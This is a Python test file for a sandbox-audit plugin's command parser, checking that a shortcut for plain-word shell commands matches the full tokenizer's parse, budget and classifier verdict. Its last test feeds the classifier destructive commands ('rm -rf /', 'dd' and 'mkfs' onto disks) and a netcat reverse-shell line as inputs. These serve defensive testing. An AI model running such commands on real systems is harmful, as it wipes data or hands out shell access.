"""sandbox_audit: a command of plain words is read without the tokenizer, to the same script.

`frontend.parse` builds the script of a plain-words command (`plain_words`)
straight from its words (`splitter.split_plain`) instead of running the
tokenizer. These tests hold the shortcut to the tokenizer: the same structure,
field by field, and the same work budget spent, on generated commands, on every
command of the corpus and the fuzz vocabulary that qualifies, and under budgets
too small for the command.
"""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from antler.plugins.sandbox_audit.classifier import classify
from antler.plugins.sandbox_audit.frontend import plain_words
from antler.plugins.sandbox_audit.splitter import Budget, TooComplex, split, split_plain

from .test_sandbox_audit import LOOPING
from .test_sandbox_audit_corpus import CASES
from .test_sandbox_audit_fuzz import PLAIN


def shape(node: Any) -> Any:
    """Every slot of a parsed node, recursively: two scripts are the same when these are."""
    if isinstance(node, (list, tuple)):
        return [shape(item) for item in node]
    slots = getattr(type(node), "__slots__", None)
    if slots is None:
        return node
    return (type(node).__name__, {name: shape(getattr(node, name)) for name in slots})


def read_both(text: str, budget: tuple[int, int] | None = None) -> tuple[Any, Any]:
    """(outcome, budget left) of the tokenizer and of the shortcut on `text`."""
    outcomes = []
    for reader in (lambda b: split(text, budget=b), lambda b: split_plain(text, b)):
        spent = Budget(*budget) if budget else Budget()
        try:
            outcome = shape(reader(spent))
        except TooComplex as exc:
            outcome = ("TooComplex", str(exc))
        outcomes.append((outcome, spent.nodes, spent.words))
    return outcomes[0], outcomes[1]


WORD_CHARS = "abz019_./+-"
ARG_CHARS = WORD_CHARS + ":,@%="


@st.composite
def plain_commands(draw: st.DrawFn) -> str:
    """A command name and arguments of plain characters, spaced by one to three blanks."""
    words = [draw(st.text(WORD_CHARS, min_size=1, max_size=6))]
    words += draw(st.lists(st.text(ARG_CHARS, min_size=1, max_size=8), max_size=6))
    text = " " * draw(st.integers(0, 2)) + words[0]
    for word in words[1:]:
        text += " " * draw(st.integers(1, 3)) + word
    return text + " " * draw(st.integers(0, 2))


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(plain_commands())
def test_generated_plain_commands_read_alike(command: str) -> None:
    if not plain_words(command):  # a reserved word first, say
        return
    tokenizer, shortcut = read_both(command)
    assert shortcut == tokenizer


@pytest.mark.parametrize("command", sorted(
    {case[0] for case in CASES} | set(LOOPING) | set(PLAIN)
    | {" ".join(PLAIN[i:i + 4]) for i in range(len(PLAIN))}))
def test_corpus_commands_that_qualify_read_alike(command: str) -> None:
    if plain_words(command):  # the others never take the shortcut
        tokenizer, shortcut = read_both(command)
        assert shortcut == tokenizer


def test_the_corpus_has_plain_commands_and_the_demo_command_is_one() -> None:
    assert sum(plain_words(case[0]) for case in CASES) >= 5
    assert plain_words("wc -l /mnt/user-data/uploads/sales.csv")
    assert not plain_words("if true")  # a reserved word first
    assert not plain_words("ls\tx") and not plain_words("a=1 ls")


@pytest.mark.parametrize("budget", [(10, 2), (10, 3), (10, 4), (0, 10), (1, 10)])
def test_a_budget_too_small_runs_out_alike(budget: tuple[int, int]) -> None:
    tokenizer, shortcut = read_both("wc -l /mnt/user-data/uploads/sales.csv", budget)
    assert shortcut == tokenizer


@pytest.mark.parametrize("command", ["rm -rf /", "sudo rm -rf /etc", "dd if=/dev/zero of=/dev/sda",
                                     "chmod 777 /", "wc -l x", "nc -e /bin/sh host 4444",
                                     "mkfs.ext4 /dev/sda1"])
def test_plain_commands_get_the_tokenizer_verdict(command: str) -> None:
    assert plain_words(command)
    fast, full = classify(command), classify(command, parser="tokenizer")
    assert (fast.action, fast.rule, fast.findings, fast.parser) == \
        (full.action, full.rule, full.findings, full.parser)
